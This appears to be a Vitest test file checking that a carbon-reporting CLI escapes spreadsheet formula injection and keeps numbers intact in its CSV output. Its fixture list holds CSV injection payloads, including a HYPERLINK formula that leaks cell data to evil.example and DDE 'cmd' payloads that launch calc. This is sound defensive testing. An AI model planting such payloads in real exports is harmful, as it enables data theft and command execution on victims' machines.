import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { detailColumns } from "../../src/report/columns.js";
import { toCsv } from "../../src/report/csv.js";
import type { CarbonRecord } from "../../src/schema.js";
import { runCli } from "../helpers/run-cli.js";
import { scratch } from "./billing-setups.js";

/** Strings a billing tag, account name or SKU could carry, meant to run as a formula or to break the CSV. */
const hostile = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  'acme, "inc"\nsecond line',
  "plain-name_01",
];

const isFormulaStart = (s: string): boolean => /^[=+\-@\t\r]/.test(s);
/** What a text cell must hold after the guard: OWASP's advice, a leading single quote, only where needed. */
const neutralised = (s: string): string => (isFormulaStart(s) ? `'${s}` : s);

const numericColumns = ["quantity_hours", "cost", "gpu_count", "power_w", "energy_kwh", "pue", "intensity_kg_per_kwh", "co2e_kg", "co2e_low_kg", "co2e_high_kg"];

function checkNumbers(rows: Record<string, string>[]): void {
  for (const r of rows) {
    for (const col of numericColumns) {
      const cell = r[col] ?? "";
      if (cell === "") continue;
      // A plain decimal, never quoted away: a negative cost (a credit) stays a number a spreadsheet can sum.
      expect(cell, `${col} = ${cell}`).toMatch(/^-?\d+(\.\d+)?$/);
    }
  }
}

describe("CSV safety", () => {
  it("neutralises hostile text from --input and keeps numbers, negative ones included, as numbers (built CLI)", async () => {
    const dir = scratch("csv");
    const input = join(dir, "usage.csv");
    const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
    const header = "provider,account,region,instance_type,unit,quantity_hours,period_start,period_end,estimated,cost,currency";
    // --input trims cells, so tab and CR are covered by the in-process test below.
    const texts = hostile.filter((h) => !/^[\t\r]/.test(h));
    const lines = texts.map((h, i) =>
      ["aws", quote(h), i === 0 ? "us-east-1" : quote(h), i === 0 ? "p5.48xlarge" : quote(h), "instance-hour", "24", "2026-10-01T00:00:00Z", "2026-10-02T00:00:00Z", "false", i === 1 ? "-12.5" : "100.25", "USD"].join(","),
    );
    writeFileSync(input, [header, ...lines].join("\n"));
    const res = await runCli(["--input", input, "--format", "csv"], { env: { HOME: dir }, cwd: dir });
    expect(res.code, res.stderr).toBe(0);
    const rows = parse(res.stdout, { columns: true, relax_column_count: false }) as Record<string, string>[];
    expect(rows).toHaveLength(texts.length);
    for (const [i, h] of texts.entries()) {
      const row = rows.find((r) => r.account === neutralised(h));
      expect(row, `account ${JSON.stringify(h)} round-trips`).toBeDefined();
      if (i > 0) {
        expect(row!.region).toBe(neutralised(h));
        expect(row!.instance_type).toBe(neutralised(h));
      }
    }
    expect(rows.map((r) => r.cost)).toContain("-12.5000");
    checkNumbers(rows);
  });

  it("quotes per RFC 4180 and neutralises tab and CR in every text cell (detail columns, in process)", async () => {
    // Real records from a demo run, made hostile where a provider's strings land.
    const res = await runCli(["--demo", "--format", "json", "--since", "2026-10-01", "--until", "2026-10-02"], { env: { HOME: scratch("csv-json") } });
    expect(res.code, res.stderr).toBe(0);
    const demo = (JSON.parse(res.stdout) as { records: CarbonRecord[] }).records;
    const records = hostile.map((h, i) => ({ ...demo[i % demo.length]!, account: h, region: h, instanceType: h, cost: i % 2 ? -(i + 0.5) : i, currency: "USD" }));
    const csv = toCsv(detailColumns, records);
    expect(csv.split("\r\n")[0]).toBe(detailColumns.map((c) => c.header).join(","));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(records.length);
    for (const [i, h] of hostile.entries()) {
      for (const col of ["account", "region", "instance_type"]) expect(rows[i]![col], `${col} of ${JSON.stringify(h)}`).toBe(neutralised(h));
      expect(Number(rows[i]!.cost)).toBe(records[i]!.cost);
    }
    // No text cell, whatever its column, starts a formula after the guard.
    for (const r of rows) for (const [col, v] of Object.entries(r)) if (!numericColumns.includes(col)) expect(isFormulaStart(v), `${col} = ${JSON.stringify(v)}`).toBe(false);
    checkNumbers(rows);
  });
});
